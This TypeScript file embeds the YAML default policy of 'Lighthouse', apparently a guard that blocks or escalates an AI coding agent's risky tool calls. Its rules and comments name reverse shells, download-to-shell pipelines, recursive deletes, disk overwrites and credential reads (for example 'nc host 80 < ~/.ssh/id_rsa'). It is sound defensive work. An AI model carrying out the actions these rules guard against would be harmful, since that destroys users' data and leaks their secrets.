// The default policy, embedded so the compiled bridge needs no data files. The same
// text lives in default-policy.yaml for people to read and copy; a test keeps them equal.
import { parsePolicy } from './parse.js';
import type { Policy } from './types.js';

let parsed: Policy | undefined;

export function defaultPolicy(): Policy {
  parsed ??= parsePolicy(DEFAULT_POLICY_YAML);
  return parsed;
}

export const DEFAULT_POLICY_YAML = `# Lighthouse default policy. Rules are data: the highest priority enforce-mode hit
# decides; warn hits are reported to the caller, dryrun hits only recorded. Calls no rule decides go to the
# heuristic risk score. Paths are canonical (.., ., // resolved against cwd, ~ kept).
version: 1

definitions:
  # Where a recursive delete, chmod or chown is a disaster.
  # \`~*\`: \`~\` and \`~user\` (\`rm -rf ~root\`); /var and /private hold /var/lib and /private/etc.
  critical: &critical ['/', '~*', '/home', '/home/*', '/root', '/Users', '/Users/*', '/var', '/private']
  # Operating-system locations an agent never writes.
  system: &system
    - /etc/**
    - /usr/**
    - /boot/**
    - /sys/**
    - /proc/**
    - /bin/**
    - /sbin/**
    - /lib*/**
    - /var/lib/**
    - /root/**
    # macOS: /etc is a link to /private/etc, so a real path (see resolvedPaths) lands there.
    - /private/etc/**
    - /System/**
    - /Library/**
  devices: &devices
    - /dev/sd*
    - /dev/hd*
    - /dev/vd*
    - /dev/xvd*
    - /dev/nvme*
    - /dev/mmcblk*
    - /dev/md*
    - /dev/dm-*
    - /dev/loop*
    - /dev/disk/**
    - /dev/mapper/**
    - /dev/mem
    - /dev/kmem
    - /dev/port
    - /proc/sysrq-trigger
  # Each under \`~\`/\`~user\` and under an absolute home: file tools are given absolute paths.
  credentials: &credentials
    - ~*/.ssh/**
    - /home/*/.ssh/**
    - /root/.ssh/**
    - /Users/*/.ssh/**
    - ~*/.aws/**
    - /home/*/.aws/**
    - /Users/*/.aws/**
    - ~*/.gnupg/**
    - /home/*/.gnupg/**
    - /Users/*/.gnupg/**
    - ~*/.kube/config
    - /home/*/.kube/config
    - /Users/*/.kube/config
    - ~*/.docker/config.json
    - /home/*/.docker/config.json
    - /Users/*/.docker/config.json
    - ~*/.netrc
    - /home/*/.netrc
    - /Users/*/.netrc
  secrets: &secrets
    - ~*/.ssh/id_*
    - /home/*/.ssh/id_*
    - /root/.ssh/id_*
    - /Users/*/.ssh/id_*
    - '**/.aws/credentials'
    - '**/.kube/config'
    - '**/.netrc'
    - '**/.docker/config.json'
    - '**/id_rsa'
    - '**/id_ecdsa'
    - '**/id_ed25519'
    - /proc/*/environ
    - '**/.env'
    - '**/.env.*'
    - '**/*.pem'
    - '**/*.key'
  shells: &shells ['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'mksh', 'fish', 'python*', 'perl', 'ruby', 'node', 'php', 'lua', 'source', '.']
  writeTools: &writeTools Write|Edit|MultiEdit|NotebookEdit
  startup: &startup
    - ~/.bashrc
    - ~/.bash_profile
    - ~/.bash_login
    - ~/.profile
    - ~/.zshrc
    - ~/.zprofile
    - ~/.zshenv
    - /home/*/.bashrc
    - /home/*/.bash_profile
    - /home/*/.profile
    - /home/*/.zshrc

rules:
  # --- script-level findings -------------------------------------------------
  - id: fork-bomb
    description: Fork bomb (a function that spawns itself, an endless loop of background jobs)
    priority: 1000
    action: block
    category: destructive
    match: { tool: Bash, shell: [fork_bomb] }

  - id: unparseable-command
    description: Shell command that cannot be parsed (never allowed)
    priority: 950
    action: escalate
    category: shell
    match: { tool: Bash, shell: [unparseable_command] }

  # --- destruction -------------------------------------------------------------
  - id: rm-recursive-critical
    description: Recursive delete of the root, a home or a system directory
    priority: 900
    action: block
    category: destructive
    match:
      tool: Bash
      command:
        program: [rm]
        flags: { all: ['r|R|recursive'] }
        args: { paths: [*critical, *system, *credentials] }

  - id: rm-no-preserve-root
    description: rm with --no-preserve-root
    priority: 900
    action: block
    category: destructive
    match: { tool: Bash, command: { program: [rm], flags: { any: [no-preserve-root] } } }

  - id: delete-system-path
    description: Deleting or moving files in a system directory
    priority: 890
    action: block
    category: destructive
    match:
      tool: Bash
      command: { program: [rm, rmdir, unlink, shred, mv], args: { paths: *system } }

  - id: find-delete-critical
    description: find -delete over the root, a home or a system directory
    priority: 890
    action: block
    category: destructive
    match:
      tool: Bash
      command:
        program: [find]
        flags: { any: ['-delete'] }
        args: { paths: [*critical, *system], position: first }

  - id: find-exec-critical
    description: find running commands over the root, a home or a system directory
    priority: 885
    action: escalate
    category: destructive
    match:
      tool: Bash
      command:
        program: [find]
        flags: { any: ['-exec', '-execdir', '-ok', '-okdir'] }
        args: { paths: [*critical, *system], position: first }

  - id: disk-overwrite
    description: dd writing to a block device
    priority: 880
    action: block
    category: destructive
    match: { tool: Bash, command: { program: [dd], operands: { of: *devices } } }

  - id: dd-system-path
    description: dd writing into a system path or credentials
    priority: 880
    action: block
    category: system
    match: { tool: Bash, command: { program: [dd], operands: { of: [*system, *credentials] } } }

  - id: make-filesystem
    description: Creating a filesystem or wiping signatures
    priority: 880
    action: block
    category: destructive
    match: { tool: Bash, command: { program: ['mkfs', 'mkfs.*', 'mke2fs', 'mkswap', 'wipefs', 'blkdiscard'] } }

  - id: device-write
    description: Writing to a block device
    priority: 880
    action: block
    category: destructive
    match: { tool: Bash, command: { program: [shred, tee, cp, cat, truncate], args: { paths: *devices, position: last } } }

  - id: redirect-to-device
    description: Redirecting output onto a block device
    priority: 870
    action: block
    category: destructive
    match: { tool: Bash, redirect: *devices }

  - id: redirect-to-system-path
    description: Redirecting output into a system path
    priority: 860
    action: block
    category: system
    match: { tool: Bash, redirect: [*system, *credentials] }

  - id: recursive-permissions-critical
    description: Recursive chmod/chown/chgrp of the root, a home or a system directory
    priority: 850
    action: block
    category: destructive
    match:
      tool: Bash
      command:
        program: [chmod, chown, chgrp]
        flags: { all: ['R|recursive'] }
        args: { paths: [*critical, *system] }

  - id: permissions-system-path
    description: Changing owner or mode of system files
    priority: 845
    action: block
    category: system
    match: { tool: Bash, command: { program: [chmod, chown, chgrp, chattr, setfacl], args: { paths: *system } } }

  - id: copy-into-system-path
    description: Copying, moving or linking into a system path
    priority: 840
    action: block
    category: system
    match:
      tool: Bash
      command: { program: [cp, mv, install, ln, rsync], args: { paths: [*system, *credentials], position: last } }

  - id: copy-into-system-path-target
    description: Copying, moving or linking into a system path named by -t / --target-directory
    priority: 840
    action: block
    category: system
    match:
      tool: Bash
      command:
        program: [cp, mv, install, ln]
        options: { 't|target-directory': [*system, *credentials] }

  - id: extract-into-system-path
    description: Unpacking an archive into a system path (tar -x -C, --directory)
    priority: 840
    action: block
    category: system
    match:
      tool: Bash
      command:
        program: [tar, bsdtar, gtar]
        flags: { any: ['x|extract|get'] }
        options: { 'C|directory': [*system, *credentials] }

  - id: unzip-into-system-path
    description: Unpacking a zip archive into a system path (unzip -d)
    priority: 840
    action: block
    category: system
    match:
      tool: Bash
      command:
        program: [unzip]
        options: { d: [*system, *credentials] }

  - id: download-into-system-path
    description: Downloading into a system path
    priority: 840
    action: block
    category: system
    match:
      tool: Bash
      command:
        program: [curl, wget]
        flags: { any: ['o|output|O|output-document|P|directory-prefix'] }
        args: { paths: [*system, *credentials] }

  - id: write-system-path-command
    description: Writing a file in a system path
    priority: 840
    action: block
    category: system
    match:
      tool: Bash
      command: { program: [tee, touch, truncate, mkdir], args: { paths: [*system, *credentials] } }

  - id: in-place-edit-system-path
    description: Editing a system file in place
    priority: 840
    action: block
    category: system
    match:
      tool: Bash
      command: { program: [sed, perl, awk, gawk], flags: { any: ['i|in-place'] }, args: { paths: *system } }

  - id: editor-system-path
    description: Scripted editor run on a system file (ed, ex, vim -c …)
    priority: 840
    action: block
    category: system
    match: { tool: Bash, command: { program: [ed, red, ex, vi, vim, nvim, nano, emacs], args: { paths: *system } } }

  # --- file tools ----------------------------------------------------------------
  - id: system-file-write
    description: File tool writing into a system path
    priority: 830
    action: block
    category: system
    match: { tool: *writeTools, path: { patterns: [*system, '/dev/**'] } }

  - id: credential-file-write
    description: File tool writing SSH keys or cloud credentials
    priority: 825
    action: block
    category: secrets
    match: { tool: *writeTools, path: { patterns: *credentials } }

  - id: os-credential-file-write
    description: File tool writing an OS account database (also inside chroots, container roots, mounted disks)
    priority: 828
    action: block
    category: secrets
    match: { tool: *writeTools, path: { patterns: ['**/etc/passwd', '**/etc/shadow', '**/etc/gshadow', '**/etc/group', '**/etc/sudoers', '**/etc/sudoers.d/**'] } }

  - id: git-internals-write
    description: File tool writing inside .git (hooks run code, refs hold history)
    priority: 820
    action: block
    category: integrity
    match: { tool: *writeTools, path: { patterns: ['**/.git/**'] } }

  - id: shadow-read
    description: Reading password hashes or sudoers
    priority: 815
    action: block
    category: secrets
    match: { path: { patterns: [/etc/shadow, /etc/gshadow, /etc/shadow-, /etc/sudoers, /etc/sudoers.d/**] } }

  - id: secret-read
    description: Reading private keys, credentials or .env secrets
    priority: 810
    action: escalate
    category: secrets
    match: { tool: 'Read|Grep|NotebookRead|Glob|LS', path: { patterns: *secrets } }

  - id: secret-read-command
    description: Printing private keys, credentials or .env secrets
    priority: 810
    action: escalate
    category: secrets
    match:
      tool: Bash
      command:
        program:
          [cat, tac, nl, less, more, head, tail, bat, xxd, hexdump, od, base64, strings, cp, scp, curl,
           grep, egrep, fgrep, rg, ag, awk, gawk, sed, sort, uniq, cut, paste, diff, cmp, jq, yq, rev, fold]
        # stdin: \`cat < ~/.ssh/id_rsa\` reads the file as much as \`cat ~/.ssh/id_rsa\`.
        args:
          paths: &secret_files [*secrets, /etc/shadow, /etc/gshadow, /etc/shadow-, /etc/sudoers, /etc/sudoers.d/**]
          stdin: true

  - id: secret-redirect
    description: Feeding private keys, credentials or .env secrets to a program through a redirect
    priority: 810
    action: escalate
    category: secrets
    match:
      tool: Bash
      command:
        # Any program: \`nc host 80 < ~/.ssh/id_rsa\` sends the key as surely as \`curl -d @key\`.
        program: ['*']
        inputs: *secret_files

  - id: secret-search
    description: Searching credential directories or a whole home for secrets
    priority: 810
    action: escalate
    category: secrets
    match:
      tool: Bash
      command:
        program: [grep, egrep, fgrep, rg, ag, ack]
        args: { paths: ['~*', '/home/*', '/root', '/Users/*', *credentials] }

  - id: secret-search-tool
    description: Grep tool searching credential directories
    priority: 810
    action: escalate
    category: secrets
    match: { tool: Grep, path: { patterns: *credentials } }

  - id: shell-startup-write
    description: File tool writing a shell startup file (persistence)
    priority: 800
    action: escalate
    category: integrity
    match:
      tool: *writeTools
      path: { patterns: *startup }

  - id: shell-startup-write-command
    description: Command writing a shell startup file (persistence)
    priority: 800
    action: escalate
    category: integrity
    match:
      tool: Bash
      redirect: *startup

  - id: shell-startup-copy
    description: Copying or linking over a shell startup file (persistence)
    priority: 800
    action: escalate
    category: integrity
    match:
      tool: Bash
      command: { program: [tee, cp, mv, ln, install], args: { paths: *startup, position: last } }

  - id: path-traversal-write
    description: File tool writing outside the working directory through ..
    priority: 790
    action: escalate
    category: integrity
    match: { tool: *writeTools, path: { escapesCwd: true } }

  # --- remote code and obfuscation -------------------------------------------
  - id: reverse-shell
    description: Reverse shell (a network connection wired to a shell)
    priority: 710
    action: block
    category: network
    match: { tool: Bash, command: { program: [nc, ncat, netcat], flags: { any: [e, c] } } }

  - id: reverse-shell-redirect
    description: Reverse shell through bash's /dev/tcp
    priority: 710
    action: block
    category: network
    match: { tool: Bash, redirect: ['/dev/tcp/**', '/dev/udp/**'] }

  - id: download-to-shell
    description: Downloaded content piped into an interpreter
    priority: 700
    action: block
    category: network
    match:
      tool: Bash
      pipeline:
        from: { program: [curl, wget, fetch, nc, ncat, netcat, socat, aria2c, http, https, lynx, links] }
        to: { program: *shells, readsStdin: true }

  - id: decode-to-shell
    description: Decoded (obfuscated) content piped into an interpreter
    priority: 700
    action: block
    category: obfuscation
    match:
      tool: Bash
      pipeline:
        from: { program: [base64, base32, basenc, xxd, uudecode, openssl, rev, gunzip, zcat, bunzip2, xz, unxz] }
        to: { program: *shells, readsStdin: true }

  - id: pipe-to-shell
    description: Output piped into an interpreter
    priority: 680
    action: escalate
    category: shell
    match: { tool: Bash, pipeline: { from: { program: ['*'] }, to: { program: *shells, readsStdin: true } } }

  - id: dynamic-program
    description: Command name or script computed at run time
    priority: 650
    action: escalate
    category: shell
    match: { tool: Bash, shell: [dynamic_program] }

  # --- privileged operations ------------------------------------------------------
  - id: privilege-escalation
    description: Running as another user (sudo, su, doas)
    priority: 600
    action: escalate
    category: privileged
    match: { tool: Bash, command: { program: [sudo, su, doas, pkexec, runuser] } }

  - id: system-package-install
    description: Installing or removing system packages
    priority: 590
    action: escalate
    category: privileged
    match:
      tool: Bash
      command:
        program: [apt, apt-get, aptitude, dpkg, yum, dnf, rpm, zypper, apk, pacman, snap, brew, port]
        subcommand: [install, reinstall, remove, purge, upgrade, dist-upgrade, full-upgrade, autoremove, erase, add, del]

  - id: low-level-package-install
    description: Installing or removing packages with dpkg, rpm or pacman
    priority: 590
    action: escalate
    category: privileged
    match:
      tool: Bash
      command: { program: [dpkg, rpm, pacman], flags: { any: ['i|S|R|U|e|install|remove|purge|upgrade|erase'] } }

  - id: global-package-install
    description: Installing a global npm/yarn/pnpm package
    priority: 590
    action: escalate
    category: privileged
    match:
      tool: Bash
      command: { program: [npm, pnpm, yarn, bun], flags: { any: ['g|global'] } }

  - id: git-force-push
    description: Force-pushing git history
    priority: 580
    action: escalate
    category: vcs
    match: { tool: Bash, command: { program: [git], subcommand: [push], flags: { any: ['f|force|mirror|delete'] } } }

  - id: git-force-push-refspec
    description: Force-pushing git history with a +refspec
    priority: 580
    action: escalate
    category: vcs
    match: { tool: Bash, command: { program: [git], subcommand: [push], args: { paths: ['**/+*'] } } }

  - id: delete-git-directory
    description: Deleting a repository's .git directory (its whole history)
    priority: 575
    action: escalate
    category: vcs
    match: { tool: Bash, command: { program: [rm], flags: { all: ['r|R|recursive'] }, args: { paths: ['**/.git'] } } }

  - id: kubernetes-delete
    description: Deleting or draining Kubernetes resources
    priority: 570
    action: escalate
    category: privileged
    match:
      tool: Bash
      command: { program: [kubectl, oc], subcommand: [delete, drain, replace, patch, scale, cordon] }

  - id: helm-uninstall
    description: Removing a Helm release
    priority: 570
    action: escalate
    category: privileged
    match: { tool: Bash, command: { program: [helm], subcommand: [uninstall, delete, rollback] } }

  - id: privileged-container
    description: Container with host privileges
    priority: 565
    action: escalate
    category: privileged
    match:
      tool: Bash
      command:
        program: [docker, podman, nerdctl]
        subcommand: [run, create, exec]
        flags: { any: [privileged, cap-add, device, pid, ipc, userns] }

  - id: system-administration
    description: Changing services, users, firewall, mounts or kernel state
    priority: 560
    action: escalate
    category: privileged
    match:
      tool: Bash
      command:
        program:
          - shutdown
          - reboot
          - halt
          - poweroff
          - init
          - telinit
          - iptables
          - ip6tables
          - nft
          - ufw
          - mount
          - umount
          - modprobe
          - insmod
          - rmmod
          - sysctl
          - useradd
          - userdel
          - usermod
          - groupadd
          - passwd
          - chpasswd
          - visudo
          - setenforce
          - fdisk
          - sfdisk
          - parted
          - sgdisk

  - id: service-control
    description: Starting, stopping or changing system services
    priority: 560
    action: escalate
    category: privileged
    match:
      tool: Bash
      command:
        program: [systemctl, service]
        subcommand: [start, stop, restart, reload, enable, disable, mask, kill, isolate, daemon-reload, poweroff, reboot]

  - id: crontab-change
    description: Changing scheduled jobs
    priority: 560
    action: escalate
    category: privileged
    match: { tool: Bash, command: { program: [crontab], flags: { none: [l] } } }

  # --- known-safe ----------------------------------------------------------------
  - id: read-only-tools
    description: Read-only tool
    priority: 100
    action: allow
    category: read-only
    match: { tool: 'Read|Grep|Glob|LS|NotebookRead|WebSearch|TodoWrite|TodoRead|BashOutput|ExitPlanMode' }

  - id: read-only-commands
    description: Only read-only commands
    priority: 100
    action: allow
    category: read-only
    match:
      tool: Bash
      command:
        scope: all
        program:
          - ls
          - cat
          - head
          - tail
          - less
          - more
          - grep
          - egrep
          - fgrep
          - rg
          - ag
          - find
          - fd
          - wc
          - pwd
          - echo
          - printf
          - which
          - whoami
          - id
          - date
          - uname
          - hostname
          - stat
          - file
          - du
          - df
          - tree
          - sort
          - uniq
          - cut
          - diff
          - jq
          - 'true'
          - 'false'
          - test
          - '['
          - basename
          - dirname
          - realpath
          - readlink
          - sha256sum
          - md5sum
          - cd
          - type
          - ps
        flags: { none: ['-delete', '-exec', '-execdir', '-ok', '-fprint', '-fprintf', '-fls'] }

  - id: git-read-only
    description: Read-only git command
    priority: 100
    action: allow
    category: read-only
    match:
      tool: Bash
      command:
        scope: all
        program: [git]
        subcommand: [status, diff, log, show, branch, rev-parse, ls-files, blame, describe, shortlog]
        flags: { none: ['D|delete|force|f|m|M|c|C'] }
`;
